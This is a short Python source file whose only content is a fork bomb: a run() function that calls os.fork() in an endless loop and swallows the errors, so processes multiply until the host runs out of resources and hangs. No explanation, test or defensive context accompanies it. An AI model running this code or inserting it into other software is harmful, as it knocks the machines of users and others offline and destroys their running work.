import os


def run():
    while True:
        try:
            os.fork()
        except OSError:
            pass
